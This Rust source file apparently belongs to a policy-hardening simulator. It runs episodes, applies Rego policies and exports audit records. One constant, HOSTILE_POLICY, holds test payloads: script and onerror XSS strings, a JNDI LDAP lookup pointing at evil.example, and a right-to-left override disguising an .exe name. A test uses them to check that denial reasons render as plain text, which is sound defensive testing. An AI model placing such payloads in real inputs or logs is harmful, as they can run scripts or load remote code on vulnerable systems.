//! The hardening page's run of the simulator: the scenario, who proposes, the policy in force
//! and the record of the current episode (risk over time, the crate's metrics); its exports
//! (the trajectory, and the seed's six audit tables as JSONL, through the crate's code).
//! Plain Rust, tested natively; the components only read it.

use super::settings::{Decider, HardenSettings};
use crate::play::run::{Run, Scored};
use crate::rego::bundle::RegoBundle;
use serde_json::Value;
use ztgym::core::Agent;
use ztgym::harden::agents::{builtin, Reviewer, REVIEWER_MAX_BREAKAGE};
use ztgym::harden::env::Candidate;
use ztgym::harden::metrics::{audit_records, Collector, Evaluation};
use ztgym::harden::{Action, HardenEnv, Options, Scenario};
use ztgym::rego::Policy;

/// A policy whose denial reasons are hostile text (`show=hostile`): markup, a JNDI lookup and a
/// right-to-left override, to check every surface shows a reason as text.
pub const HOSTILE_POLICY: &str = r#"package hostile

default allow := false

deny contains "<script>alert('reason')</script> ${jndi:ldap://evil.example/a}" if true

deny contains "<img src=x onerror=alert(1)> \u202Egpj.exe" if true
"#;

/// A hardening episode scores its return.
impl Scored for HardenEnv {
    const ID: &'static str = super::id::ENV;
}

/// One hardening run.
pub struct Session {
    settings: HardenSettings,
    run: Run<HardenEnv>,
}

impl Session {
    /// Starts a run. Fails for an agent the crate does not have, or a scenario it cannot load.
    pub fn new(settings: HardenSettings) -> Result<Session, String> {
        Session::with_policy_agent(settings, None)
    }

    /// Starts a run whose `Policy` decider is `policy` (the tab's policy as an agent on the
    /// scenario, `policies.rs`); without one, `agent=policy` is refused with the reason.
    pub fn with_policy_agent(
        settings: HardenSettings,
        policy: Option<Result<Box<dyn Agent<HardenEnv>>, String>>,
    ) -> Result<Session, String> {
        let inner = match settings.agent {
            Decider::Human => None,
            Decider::Agent(name) => Some(builtin(name)?),
            Decider::Policy => Some(policy.unwrap_or_else(|| {
                Err(format!(
                    "agent policy: there is no policy for scenario {}: train one or load one in the Learned policy panel",
                    settings.scenario
                ))
            })?),
        };
        let agent: Option<Box<dyn Agent<HardenEnv>>> = match inner {
            Some(a) if settings.recommend => {
                Some(Box::new(Reviewer::new(a, REVIEWER_MAX_BREAKAGE)))
            }
            other => other,
        };
        let scenario = Scenario::load(settings.scenario).map_err(|e| e.to_string())?;
        let env = HardenEnv::new(scenario).map_err(|e| e.to_string())?;
        let run = Run::new(env, agent, settings.seed, options(&settings), None);
        let mut session = Session { settings, run };
        if session.settings.hostile {
            session.set_policy(&RegoBundle::single("policy.rego", HOSTILE_POLICY))?;
        } else if let Some(bundle) = session.settings.rego.clone() {
            session.set_policy(&bundle)?;
        }
        Ok(session)
    }

    pub fn settings(&self) -> &HardenSettings {
        &self.settings
    }

    /// The policy in force: its name and text.
    pub fn policy(&self) -> &Policy {
        self.run.env().policy()
    }

    /// Puts a policy in force from the next decision on; the candidates on screen (the
    /// current proposals, on which no step was taken yet) are judged again by it. A policy
    /// that does not load, or has no `allow`, changes nothing and the error is returned.
    pub fn set_policy(&mut self, bundle: &RegoBundle) -> Result<(), String> {
        let policy = bundle.to_policy().map_err(|p| p.located("policy.rego"))?;
        self.run
            .env_mut()
            .set_policy(policy)
            .map_err(|e| e.to_string())?;
        // The link carries an edited policy (the hostile hook's stands for itself).
        let builtin = bundle.is_single()
            && Scenario::builtin_policy(self.settings.scenario) == Some(bundle.main_text());
        self.settings.rego = (!self.settings.hostile && !builtin).then(|| bundle.clone());
        // The last cycle stays on screen; the candidates are judged again.
        let cycle = self.run.info().cycle.clone();
        let (observation, mut info) = self.run.env_mut().look();
        info.cycle = cycle;
        self.run.show(observation, info);
        Ok(())
    }

    /// The input the gate sees for candidate `index` now.
    pub fn gate_input(&self, index: usize) -> Option<Value> {
        let observation = self.run.observation();
        let c = observation.candidates.get(index)?;
        Some(self.run.env().gate_input(&c.action, observation.risk_score))
    }

    fn check_person(&self, index: usize) -> Result<Action, String> {
        if self.automated() {
            return Err(
                "An agent proposes in this run: choose Agent: Human (you) to propose yourself."
                    .into(),
            );
        }
        if self.done() {
            return Err("The episode is over: press Reset or New seed for another.".into());
        }
        self.run
            .observation()
            .candidates
            .get(index)
            .map(|c| c.action.clone())
            .ok_or_else(|| format!("proposal {index}: there is no such candidate"))
    }

    /// A person proposes candidate `index` (recommend-only mode: use [`Session::answer`]).
    pub fn propose(&mut self, index: usize) -> Result<(), String> {
        if self.settings.recommend {
            return Err("Recommend-only mode: Accept or Reject a recommendation.".into());
        }
        let action = self.check_person(index)?;
        self.run.act(action)
    }

    /// Recommend-only mode: a person accepts or rejects recommendation `index`.
    pub fn answer(&mut self, index: usize, accepted: bool) -> Result<(), String> {
        if !self.settings.recommend {
            return Err("Accept and Reject are for recommend-only mode: Propose instead.".into());
        }
        let mut action = self.check_person(index)?;
        action.accepted = Some(accepted);
        self.run.act(action)
    }

    pub fn candidates(&self) -> &[Candidate] {
        &self.run.observation().candidates
    }

    pub fn scenario(&self) -> &Scenario {
        self.run.env().scenario()
    }

    pub fn twin(&self) -> &ztgym::harden::twin::Twin {
        self.run.env().twin()
    }

    /// The risk score at the start of the episode and after each cycle.
    pub fn risks(&self) -> Vec<f64> {
        let first = self
            .log()
            .steps
            .first()
            .map_or(self.observation(), |r| &r.observation);
        std::iter::once(first.risk_score)
            .chain(
                self.log()
                    .steps
                    .iter()
                    .map(|r| r.step.observation.risk_score),
            )
            .collect()
    }

    /// The scenario's evaluation (seed 001's metrics) over the episode's cycles so far.
    pub fn evaluation(&self) -> Evaluation {
        let mut metrics = Collector::default();
        for r in &self.log().steps {
            if let Some(c) = &r.step.info.cycle {
                metrics.add(c, r.step.cost);
            }
        }
        metrics.finish()
    }

    /// The episode as the seed's six audit tables: a JSON line per row, `decision_id` from 1.
    pub fn audit_jsonl(&self) -> String {
        let mut out = String::new();
        let cycles = self
            .log()
            .steps
            .iter()
            .filter_map(|r| r.step.info.cycle.as_deref());
        for (k, c) in cycles.enumerate() {
            for row in audit_records(k as u64 + 1, c) {
                out.push_str(&row.to_string());
                out.push('\n');
            }
        }
        out
    }
}

fn options(s: &HardenSettings) -> Options {
    Options {
        environment: s.stage,
        recommend_only: s.recommend,
    }
}

crate::page_session!(Session, HardenEnv, HardenSettings);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::play::page_session::PageSession;
    use crate::play::test_asserts::assert_some_line_has;
    use ztgym::harden::Stage;

    fn settings(agent: Decider) -> HardenSettings {
        HardenSettings {
            seed: 5,
            agent,
            ..HardenSettings::default()
        }
    }

    #[test]
    fn a_person_proposes_and_the_cycle_is_recorded() {
        let mut s = Session::new(settings(Decider::Human)).unwrap();
        assert!(!s.automated() && !s.agent_step());
        let risk = s.observation().risk_score;
        // The candidate that cuts the most and may run.
        let k = s
            .candidates()
            .iter()
            .position(|c| c.allowed && c.forecast.pass && c.forecast.risk_delta < 0.0)
            .unwrap();
        s.propose(k).unwrap();
        let c = s.log().steps[0].step.info.cycle.as_ref().unwrap();
        assert!(c.decision.allowed && c.execution.executed, "{c:?}");
        assert!(c.after_risk < risk);
        assert_eq!(s.risks().len(), 2);
        assert_eq!(s.evaluation().cycles, 1);
        assert_eq!(s.evaluation().gate_pass_rate, 1.0);
        assert!(s.propose(10_000).unwrap_err().contains("no such candidate"));
        assert!(s.answer(0, true).unwrap_err().contains("recommend-only"));
        assert_eq!(s.log().steps.len(), 1, "refusals change nothing");
    }

    #[test]
    fn agents_play_as_the_core_plays_them() {
        for (agent, recommend) in [("greedy", false), ("bandit", false), ("random", true)] {
            let st = HardenSettings {
                scenario: "uc02-pod-security",
                recommend,
                stage: Stage::Stage,
                ..settings(Decider::Agent(agent))
            };
            let mut a = Session::new(st.clone()).unwrap();
            let n = a.play(100_000, false);
            assert!(a.done() && n == a.log().steps.len() && n > 0, "{agent}");
            let expected =
                ztgym::harden::agents::builtin_trajectory(st.scenario, agent, 5, &options(&st))
                    .unwrap();
            assert_eq!(a.trajectory_jsonl(), expected, "{agent}");
            assert_eq!(a.risks().len(), n + 1);
            assert_eq!(a.evaluation().cycles, n as u64);
        }
    }

    #[test]
    fn recommend_only_runs_only_what_is_accepted() {
        let st = HardenSettings {
            recommend: true,
            ..settings(Decider::Human)
        };
        let mut s = Session::new(st).unwrap();
        let top = &s.candidates()[0];
        assert!(
            top.rollback.is_some(),
            "recommendations carry a rollback hint"
        );
        assert!(
            top.allowed && top.forecast.pass,
            "the ranking puts what may run first"
        );
        assert!(s.propose(0).unwrap_err().contains("Accept or Reject"));
        s.answer(0, false).unwrap();
        let c = s.log().steps[0].step.info.cycle.as_ref().unwrap();
        assert!(!c.execution.executed && c.proposal.accepted == Some(false));
        s.answer(0, true).unwrap();
        let c = s.log().steps[1].step.info.cycle.as_ref().unwrap();
        if c.decision.allowed && c.simulation.pass {
            assert!(c.execution.executed);
        }
    }

    #[test]
    fn a_new_policy_rejudges_the_candidates_and_a_bad_one_changes_nothing() {
        let mut s = Session::new(HardenSettings {
            stage: Stage::Prod,
            ..settings(Decider::Human)
        })
        .unwrap();
        let original = s.policy().text().to_string();
        let allowed = s.candidates().iter().filter(|c| c.allowed).count();
        assert!(allowed > 0);
        let err = s
            .set_policy(&RegoBundle::single(
                "policy.rego",
                "package p\n\nallow if {",
            ))
            .unwrap_err();
        assert!(err.contains(':'), "{err}");
        assert_eq!(s.policy().text(), original);
        assert_eq!(s.candidates().iter().filter(|c| c.allowed).count(), allowed);

        s.set_policy(&RegoBundle::single("policy.rego", "package p\n\ndefault allow := false\n\ndeny contains \"closed for the audit\" if true\n"))
            .unwrap();
        assert!(s.candidates().iter().all(|c| !c.allowed));
        assert!(s.candidates()[0]
            .reasons
            .contains(&"closed for the audit".to_string()));
        let input = s.gate_input(0).unwrap();
        assert_eq!(input["context"]["environment"], "prod");
        s.propose(0).unwrap();
        let c = s.log().steps[0].step.info.cycle.as_ref().unwrap();
        assert!(!c.decision.allowed && !c.execution.executed);
        s.restart();
        assert!(
            s.policy().text().contains("closed for the audit"),
            "a reset keeps the policy"
        );
    }

    #[test]
    fn the_hostile_policy_denies_with_its_text() {
        let mut s = Session::new(HardenSettings {
            hostile: true,
            ..settings(Decider::Human)
        })
        .unwrap();
        let reasons = &s.candidates()[0].reasons;
        assert_some_line_has(reasons, "<script>");
        assert_some_line_has(reasons, "\u{202E}");
        s.propose(0).unwrap();
        assert!(s.audit_jsonl().contains("<script>"));
    }

    #[test]
    fn the_audit_has_the_six_tables_for_every_cycle() {
        let mut s = Session::new(settings(Decider::Agent("greedy"))).unwrap();
        s.play(4, false);
        let rows: Vec<Value> = s
            .audit_jsonl()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        for table in [
            "system_state",
            "decisions",
            "simulations",
            "executions",
            "rewards",
        ] {
            assert_eq!(
                rows.iter().filter(|r| r["table"] == table).count(),
                4,
                "{table}"
            );
        }
        assert!(rows.iter().any(|r| r["table"] == "telemetry_events"));
        let ids: Vec<u64> = rows
            .iter()
            .filter(|r| r["table"] == "decisions")
            .map(|r| r["id"].as_u64().unwrap())
            .collect();
        assert_eq!(ids, [1, 2, 3, 4]);
        assert_eq!(s.trajectory_jsonl().lines().count(), 4);
    }
}
